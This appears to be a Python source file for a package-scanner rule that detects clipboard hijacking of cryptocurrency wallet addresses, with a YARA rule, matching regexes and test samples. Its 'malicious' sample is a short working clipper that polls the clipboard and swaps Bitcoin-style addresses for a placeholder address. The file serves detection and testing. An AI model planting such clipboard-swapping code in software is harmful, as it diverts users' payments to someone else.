"""A clipboard that is watched for addresses of wallets and gets other ones."""

from __future__ import annotations

import re
from collections.abc import Iterator

from wheelmark.scan.facts import Act, Call, Facts
from wheelmark.scan.report import Severity, Tactic
from wheelmark.scan.rule import Evidence, Rule
from wheelmark.scan.rules._common import graded, shown
from wheelmark.scan.samples import Sample, Samples

# Patterns of addresses, as those who look for one write them, and whole addresses.
YARA = r"""
rule wallets {
    strings:
        $pattern1 = /\((\?:)?bc1\|\[13\]\)|\b(bc1|0x|ltc1|bnb1|cosmos1)\)?\[[^\]\n]{3,60}\]\{\d{2}/
        $pattern2 = /['"]\^?\(?(T|4|\[13\]|\[LM3?\]|X|D|r|t1|q)\)?\[[^\]\n]{5,60}\]\{\d{2}/
        $pattern3 = /\[a-km-zA-HJ-NP-Z1-9\]/
        $address = /['"](bc1[a-z0-9]{25,60}|0x[0-9a-fA-F]{40}|[13LTDX][1-9A-HJ-NP-Za-km-z]{32,33})['"]/
    condition:
        any of them
}
"""
_ADDRESS = re.compile(r"^(bc1[a-z0-9]{25,60}|0x[0-9a-fA-F]{40}|[13LTDXr4][1-9A-HJ-NP-Za-km-z]{32,94})$")


def check(facts: Facts) -> Iterator[Evidence]:
    wallets = {hit.member for hit in facts.hits if hit.rule == RULE.id}
    for call in facts.calls_of(Act.COPY):
        is_address = any(_ADDRESS.match(value.text) for value in call.values)
        if not is_address and not (call.member in wallets and not _is_own_text(call)):
            continue
        severity = graded(call.context, automatic=Severity.CRITICAL, entry=Severity.HIGH, on_call=Severity.HIGH)
        if severity is not None:
            yield Evidence.of_call(call, severity, f"{shown(call)}, beside addresses of wallets or patterns of such")


def _is_own_text(call: Call) -> bool:
    """True for a fixed text that is no address: `copied!`."""
    return any(isinstance(value.constant, str) for value in call.arguments)


RULE = Rule(
    id="clipboard-replaced",
    version=1,
    severity=Severity.CRITICAL,
    tactic=Tactic.IMPACT,
    message="The clipboard is read and written beside addresses of wallets: a payment would go to somebody else.",
    reference="https://attack.mitre.org/techniques/T1565/002/",
    check=check,
    yara=YARA,
    samples=Samples(
        malicious=(
            Sample.imported("""
                import re
                import threading
                import time

                import pyperclip

                _OURS = "bc1imitationimitationimitationimitation"


                def _watch():
                    while True:
                        if re.match("^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$", pyperclip.paste()):
                            pyperclip.copy(_OURS)
                        time.sleep(1)


                threading.Thread(target=_watch, daemon=True).start()
            """),
        ),
        benign=(
            Sample.imported('''
                import re

                import pyperclip

                _ADDRESS = re.compile("^[a-z0-9.]{5,25}@[a-z0-9.]{5,25}$")


                def tidy():
                    """Trim what was copied, as editors do."""
                    pyperclip.copy(pyperclip.paste().strip())
            '''),
        ),
    ),
)
